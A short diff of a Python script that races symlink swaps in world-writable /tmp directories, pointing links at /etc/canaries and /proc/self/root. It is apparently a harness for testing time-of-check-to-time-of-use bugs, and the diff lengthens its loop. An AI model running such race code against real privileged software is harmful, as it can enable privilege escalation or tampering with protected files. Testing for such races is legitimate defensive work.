@@ -4,8 +4,8 @@ import os, time
 os.makedirs("/tmp/swap/real", exist_ok=True)
 os.chmod("/tmp/swap", 0o777)
 os.chmod("/tmp/swap/real", 0o777)
-swaps, end = 0, time.monotonic() + 5
-while time.monotonic() < end:
+swaps, start = 0, time.monotonic()
+while time.monotonic() < start + 5 or swaps < 1200 and time.monotonic() < start + 60:
     for target in "/etc/canaries", "/tmp/swap/real", "/proc/self/root":
         os.symlink(target, "/tmp/swap/new")
         try: os.rename("/tmp/swap/new", "/tmp/swap/way")
